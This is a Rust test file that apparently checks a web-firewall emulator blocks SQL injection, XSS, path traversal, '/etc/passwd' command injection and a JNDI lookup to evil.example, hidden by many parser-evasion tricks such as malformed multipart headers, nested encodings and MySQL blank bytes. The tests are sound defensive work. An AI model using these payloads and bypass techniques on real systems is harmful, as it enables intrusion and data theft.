//! What is found wherever a program may read it, whatever a request says of itself.

use alloc::{format, string::String, vec::Vec};

use crate::{Decision, Request, Step, Tokens, WebAcl};

fn acl() -> WebAcl {
    let rules =
        ["Common", "SQLi", "KnownBadInputs", "Linux", "Unix", "Windows", "PHP"].map(|name| {
            let name = format!("AWSManagedRules{name}RuleSet");
            serde_json::json!({"Name": name, "Priority": name.bytes().map(u32::from).sum::<u32>(), "OverrideAction": {"None": {}},
            "Statement": {"ManagedRuleGroupStatement": {"VendorName": "AWS", "Name": name}}})
        });
    let acl = serde_json::json!({"Name": "a", "DefaultAction": {"Allow": {}}, "Rules": rules});
    WebAcl::read(&acl, &[]).expect("a web ACL").0
}

fn passes(acl: &WebAcl, types: &[&str], query: &str, body: &[u8]) -> bool {
    let types = types.iter().map(|media| ("content-type", *media));
    let headers = types.chain([("user-agent", "Mozilla/5.0")]).collect();
    let request = Request { path: "/a", query, body, headers, ..Request::default() };
    match acl.evaluate(&request, Tokens::default()).advance() {
        Step::Decided(verdict) => verdict.decision == Decision::Allow,
        _ => panic!("no rule asks"),
    }
}

/// Asserts that of all attacks none gets through within what `content` makes of it, and that a benign text does.
fn assert_found(types: &[&str], content: impl Fn(&str) -> String) {
    let acl = acl();
    let attacks = [
        "' or 1=1-- ",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        ";cat /etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "1 union select 1,password from users",
    ];
    for attack in attacks {
        let content = content(attack);
        assert!(!passes(&acl, types, "", content.as_bytes()), "{types:?}: {content}");
    }
    for benign in ["It's O'Brien (again)", "x < y & z", "5 o'clock; or later"] {
        let content = content(benign);
        assert!(passes(&acl, types, "", content.as_bytes()), "{types:?}: {content}");
    }
}

fn encoded(text: &str) -> String {
    text.bytes().map(|b| format!("%{b:02x}")).collect()
}

fn escaped(text: &str) -> String {
    text.bytes().map(|b| format!("\\u{b:04x}")).collect()
}

fn references(text: &str) -> String {
    text.bytes().map(|b| format!("&#{b};")).collect()
}

const FORM: &str = "multipart/form-data; boundary=x";

#[test]
fn no_parameter_of_a_media_type_makes_content_another() {
    let json = |text: &str| format!("{{\"q\":\"{}\",\"z\":\"--x;a=b\"}}", escaped(text));
    assert_found(&["application/json; a=\"multipart/\"; boundary=x"], json);
    let xml = |text: &str| format!("<a><q>{}</q><z>--x;a=b</z></a>", references(text));
    assert_found(&["text/xml; a=\"json\""], xml);
    assert_found(&["text/xml; a=\"multipart/\"; boundary=x"], xml);
    let form = |text: &str| format!("q={}&z=--x", encoded(text));
    for parameter in ["xml", "json", "multipart/"] {
        let media = format!("application/x-www-form-urlencoded; a=\"{parameter}\"; boundary=x");
        assert_found(&[&media], form);
    }
    assert_found(&["text/plain; a=\"multipart/\"; boundary=x"], |text| {
        format!("{text}\r\n--x;a=b")
    });
}

#[test]
fn content_is_read_as_each_kind_that_lines_of_content_type_tell() {
    let form = |text: &str| format!("a=1&q={}&b=2", encoded(text));
    let urlencoded = "application/x-www-form-urlencoded";
    for other in ["text/plain", "text/xml", FORM, "application/json", "image/png"] {
        assert_found(&[other, urlencoded], form);
        assert_found(&[&format!("{other}, {urlencoded}")], form);
    }
    let acl = acl();
    assert!(passes(&acl, &["text/plain"], "", b"/api/v1/users/42?include=posts"));
    assert!(!passes(&acl, &["image/png", "text/plain"], "", b"\x01<script>alert(1)</script>"));
}

#[test]
fn what_content_looks_like_it_is_read_as_whatever_it_is_said_to_be() {
    let types = ["text/plain", "text/xml", "image/png", FORM, "application/x-www-form-urlencoded"];
    for media in types {
        assert_found(&[media], |text| format!(" {{\"q\":\"{}\",\"z\":\"--x\"}}", escaped(text)));
        assert_found(&[media], |text| format!("<a><q>{}</q></a>", references(text)));
        assert_found(&[media], |text| format!("a=1&q={}&b=2\r\n", encoded(text)));
    }
}

#[test]
fn what_stands_outside_a_forms_parts_is_looked_at() {
    let part = "--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nhello\r\n";
    assert_found(&[FORM], |text| format!("{text}\r\n{part}--x--\r\n"));
    assert_found(&[FORM], |text| format!("{part}--x--\r\n{text}"));
    assert_found(&[FORM], |text| format!("{part}--x--\r\n{text}\r\n{part}--x--"));
    assert_found(&[FORM], |text| format!("q={}&b=\r\n{part}--x--\r\n", encoded(text)));
    assert_found(&[FORM], |text| format!("{part}--x--\r\n{{\"q\":\"{}\"}}", escaped(text)));
    let acl = acl();
    for quiet in ["", "This is a multi-part message in MIME format.\r\n", "\r\n"] {
        let form = format!("{quiet}{part}--x--\r\n{quiet}");
        assert!(passes(&acl, &[FORM], "", form.as_bytes()), "{form}");
    }
}

#[test]
fn a_head_ends_at_the_first_empty_line_of_any_kind_and_at_that_of_the_standard() {
    let head = "Content-Disposition: form-data; name=\"q\"";
    for end in ["\r\n\r\n", "\n\n", "\r\n\n", "\n\r\n"] {
        for behind in ["", "\r\n\r\nbar", "\n\nbar"] {
            assert_found(&[FORM], |text| format!("--x\r\n{head}{end}{text}{behind}\r\n--x--"));
        }
        assert_found(&[FORM], |text| format!("--x\r\n{head}{end}y\r\n\r\n{text}\r\n--x--"));
    }
    assert_found(&[FORM], |text| format!("--x\r\n{head}\r\n{text}\r\n--x--"));
}

#[test]
fn only_what_all_programs_take_for_a_file_that_is_no_text_is_not_looked_at() {
    let form = |head: &str, text: &str| format!("--x\r\n{head}\r\n\r\n{text}\x01\r\n--x--");
    let field = "Content-Disposition: form-data; name=\"q\"";
    for head in [
        format!("{field}; filenamex=y\r\nContent-Type: image/png"),
        format!("{field}; filename=\"\"\r\nContent-Type: image/png"),
        format!("{field}; filename=\r\nContent-Type: image/png"),
        format!("{field}; filename=\"\"; filename=y\r\nContent-Type: image/png"),
        format!("X: y; filename=y\r\n{field}\r\nContent-Type: image/png"),
        format!("{field}\r\n{field}; filename=y\r\nContent-Type: image/png"),
        "Content-Disposition: form-data; name=\"q; filename=y\"\r\nContent-Type: image/png".into(),
        "Content-Disposition: form-data; name=\"q\\\"; filename=y\"\r\nContent-Type: image/png"
            .into(),
        "Content-Disposition: form-data; name='q; filename=y'\r\nContent-Type: image/png".into(),
        format!("{field}; filename=\"a.html\"\r\nContent-Type: text/html"),
        format!("{field}; filename=\"a.svg\"\r\nContent-Type: image/svg+xml"),
        format!("{field}; filename=\"a.txt\"\r\nContent-Type: text/plain; a=\"image/\""),
        format!("{field}; filename=\"a.txt\""),
        // What only some programs take for a file's name.
        format!("{field}; filename*=utf-8''a.pdf\r\nContent-Type: application/pdf"),
        format!("{field}; filename =\"a.png\"\r\nContent-Type: image/png"),
        format!("{field}; filename\t=\"a.png\"\r\nContent-Type: image/png"),
        format!("{field} filename=\"a.png\"\r\nContent-Type: image/png"),
        format!("{field}; filename=\"a.png\r\nContent-Type: image/png"),
        format!("{field};\r\n filename=\"a.png\"\r\nContent-Type: image/png"),
        format!("{field}; filename=[a]\r\nContent-Type: image/png"),
        format!("{field}; filename=a'b\r\nContent-Type: image/png"),
        format!("{field}; x=a'b; filename=\"a.png\"\r\nContent-Type: image/png"),
        format!("{field}; filename=\"/\"\r\nContent-Type: image/png"),
        format!("{field}; filename=\"a\x00.png\"\r\nContent-Type: image/png"),
        format!("{field}; filename=a\rX: b\r\nContent-Type: image/png"),
        "Content-Disposition: attachment; name=\"q\"; filename=y\r\nContent-Type: image/png".into(),
        "Content-Disposition : form-data; name=\"q\"; filename=y\r\nContent-Type: image/png".into(),
        format!("{field}; name=r; filename=y\r\nContent-Type: image/png"),
    ] {
        assert_found(&[FORM], |text| form(&head, text));
    }
    let acl = acl();
    let compressed: Vec<u8> =
        (0..4_000_u32).map(|n| (n.wrapping_mul(n ^ 0x9e37) >> 5) as u8).collect();
    for (media, is_file) in [("", false), ("Content-Type: application/x-own\r\n", true)] {
        let head = format!("--x\r\n{field}; filename=a\r\n{media}\r\n' or 1=1-- ");
        let form = [head.as_bytes(), &compressed, b"\r\n--x--"].concat();
        assert_eq!(passes(&acl, &[FORM], "", &form), is_file, "{media}");
    }
    let base64 = "P-HN-jc!mlwdD5hbGVydCgxKTwvc2NyaXB0Pg==";
    let encoded =
        format!("--x\r\n{field}\r\nContent-Transfer-Encoding: base64\r\n\r\n{base64}\r\n--x--");
    assert!(!passes(&acl, &[FORM], "", encoded.as_bytes()), "`-` is nothing to Python");
    for (name, media) in [
        ("filename=\"a.png\"", "image/png"),
        ("filename=a.zip", "application/zip"),
        ("filename=\"O'Brien.doc\"; filename*=UTF-8''O%27Brien.doc", "application/msword"),
        ("filename=\"C:\\a\\b.png\"", "application/octet-stream"),
        (
            "filename=\"a.docx\"",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
    ] {
        let form = form(&format!("{field}; {name}\r\nContent-Type: {media}"), "' or 1=1-- ");
        assert!(passes(&acl, &[FORM], "", form.as_bytes()), "{form}");
    }
}

#[test]
fn json_within_other_values_is_read_so_deep() {
    let value = |text: &str| format!("{{\"q\":\"{}\"}}", escaped(text));
    let string = |text: &str| serde_json::to_string(&value(text)).expect("JSON");
    assert_found(&["application/x-www-form-urlencoded"], |text| {
        format!("f={}", encoded(&value(text)))
    });
    assert_found(&["application/json"], |text| format!("{{\"f\":{}}}", string(text)));
    assert_found(&["text/xml"], |text| format!("<f>{}</f>", value(text)));
    assert_found(&[FORM], |text| format!("--x\r\n\r\n{}\r\n--x--", string(text)));
    let twice = |text: &str| serde_json::to_string(&string(text)).expect("JSON");
    assert_found(&["application/json"], |text| format!("[{}]", twice(text)));
    let acl = acl();
    let query = |text: &str| format!("f={}", encoded(&value(text)));
    assert!(!passes(&acl, &[], &query("' or 1=1-- "), b""));
    assert!(passes(&acl, &[], &query("it's"), b""));
    let mut deep = String::from("\\");
    for _ in 0..10 {
        deep = serde_json::to_string(&deep).expect("JSON");
    }
    let parts: Vec<_> = super::texts("application/json", &deep);
    assert!(parts.len() <= 4, "{}", parts.len());
}

#[test]
fn a_byte_that_mysql_takes_for_a_blank_is_one() {
    let acl = acl();
    for attack in ["1%a0union%a0select%a0null,password%a0from%a0users", "1%25a0or%25a01=1--%25a0"] {
        assert!(!passes(&acl, &[], &format!("q={attack}"), b""), "{attack}");
    }
    for benign in ["%c3%a0+la+carte+or+not", "caf%e9%a0select"] {
        assert!(passes(&acl, &[], &format!("q={benign}"), b""), "{benign}");
    }
}
